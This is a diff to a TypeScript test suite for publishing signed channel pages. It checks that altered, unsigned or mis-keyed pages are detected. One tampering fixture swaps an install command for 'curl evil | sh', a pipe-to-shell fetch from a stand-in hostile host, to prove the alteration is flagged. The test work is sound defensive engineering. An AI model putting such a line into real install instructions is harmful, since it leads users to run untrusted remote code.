@@ -5,13 +5,16 @@ import { BuildCache } from "../builds/cache.ts";
 import { memoryStore, plannedMove, sampleContent } from "../channels/__fixtures__/bucket.ts";
 import { moveChannel } from "../channels/move.ts";
 import type { Store } from "../store/store.ts";
-import { fillSampleBucket, mover, sampleSettings } from "./__fixtures__/sample-bucket.ts";
+import { fillSampleBucket, mover, newPageSigner, sampleSettings } from "./__fixtures__/sample-bucket.ts";
 import { pageFindings } from "./page-findings.ts";
+import { isSignedPage } from "./page-signature.ts";
 import { publishPages } from "./publish-pages.ts";
 
 const channels = [{ product: "runtime", channel: "stable" }];
 const sample = memoryStore();
 await fillSampleBucket(sample);
+const signer = await newPageSigner();
+await sample.create(`keys/${signer.public.fingerprint}.asc`, Buffer.from(signer.public.armored));
 
 function copied() {
   return memoryStore(new Map(sample.objects));
@@ -23,7 +26,7 @@ function shelves(store: Store) {
   return { store, cache: new BuildCache(cacheFolder, () => {}), cacheFolder };
 }
 
-const publish = (store: Store) => publishPages(shelves(store), channels, sampleSettings, () => {});
+const publish = (store: Store) => publishPages(shelves(store), channels, sampleSettings, signer, () => {});
 const text = (store: ReturnType<typeof memoryStore>, path: string) => store.objects.get(path)?.toString() ?? "";
 
 test("pages tell what channels and records say, and the same bucket gives the same bytes", async () => {
@@ -158,19 +161,43 @@ test("what only an unsigned object tells gets no page and is not listed", async 
 test("an altered page is named, whatever number it states; a page of a number in force is another stack's", async () => {
   const store = copied();
   const published = await publish(store);
-  const keys = ["runtime stable"];
   const path = "channels/runtime-stable.html";
-  assert.deepEqual(await pageFindings(store, keys, published), []);
+  assert.deepEqual(await pageFindings(store, published), []);
   const page = text(store, path);
   const stating = (number: number) =>
     page.replace(/(slipway-serial" content=")\d+/, `$1${number}`).replace("sudo apt install", "curl evil | sh");
   for (const number of [1, 6, 7, 9999]) {
     store.objects.set(path, Buffer.from(stating(number)));
-    assert.deepEqual(await pageFindings(store, keys, published), [`${path}: altered`], `${number}`);
+    assert.deepEqual(await pageFindings(store, published), [`${path}: altered`], `${number}`);
   }
-  store.objects.set(path, Buffer.from(stating(6)));
+  store.objects.set(path, Buffer.from(page));
   const earlier = { ...published, [path]: { number: 5, sha256: "of the page before" } };
-  assert.deepEqual(await pageFindings(store, keys, earlier), []);
+  assert.deepEqual(await pageFindings(store, earlier), []);
+  store.objects.set(path, Buffer.from(stating(6)));
+  assert.deepEqual(await pageFindings(store, earlier), [`${path}: altered`]);
   store.objects.delete(path);
-  assert.deepEqual(await pageFindings(store, keys, published), [`${path}: missing`]);
+  assert.deepEqual(await pageFindings(store, published), [`${path}: missing`]);
+});
+
+test("each page is signed, and a byte of it, another key or another text behind it is noticed", async () => {
+  const store = copied();
+  const other = (await newPageSigner()).public;
+  for (const path of Object.keys(await publish(store))) {
+    const page = store.objects.get(path) ?? Buffer.of();
+    assert.ok(await isSignedPage(page, path, [other, signer.public]), path);
+    assert.ok(!(await isSignedPage(page, path, [other])), path);
+    assert.ok(!(await isSignedPage(page, "channels/runtime-beta.html", [signer.public])), path);
+    for (const at of [0, page.indexOf("<p>"), page.length - 200, page.length - 1]) {
+      const altered = Buffer.from(page);
+      altered[at] = (altered[at] ?? 0) ^ 1;
+      assert.ok(!(await isSignedPage(altered, path, [signer.public])), `${path} at ${at}`);
+    }
+    for (const altered of [
+      `${page}<p>more</p>\n`,
+      `${page}${page}`,
+      page.toString().replace("-->\n", "--><p>-->\n"),
+      "",
+    ])
+      assert.ok(!(await isSignedPage(Buffer.from(altered), path, [signer.public])), path);
+  }
 });
